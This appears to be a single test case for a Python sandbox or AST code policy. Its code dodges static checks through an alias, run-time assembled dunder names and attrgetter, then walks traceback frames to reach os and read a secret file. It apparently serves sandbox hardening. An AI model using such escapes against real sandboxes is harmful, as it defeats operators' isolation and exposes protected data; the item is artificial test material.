# id: in07-traceback-frames
# category: introspection
# effect: walk an exception's traceback frames (attrgetter) to a library frame's globals -> os
# touches_os: yes
# destructive: no
# fast: no
import typing
t = typing            # an alias: the AST policy only checks names bound by import
mods = t.sys.modules
d = "_" * 2             # dunders assembled at run time: no literal dunder in the source
ag = t.operator.attrgetter
try:
    import_step(12345)
except Exception as e:
    tb = ag(d + "traceback" + d)(e)
    while tb is not None:
        g = ag("tb_frame.f_" + "globals")(tb)
        if "os" in g:
            o = g["os"]
            print(o.read(o.open("{SECRET}", o.O_RDONLY), 200))
            break
        tb = ag("tb_next")(tb)
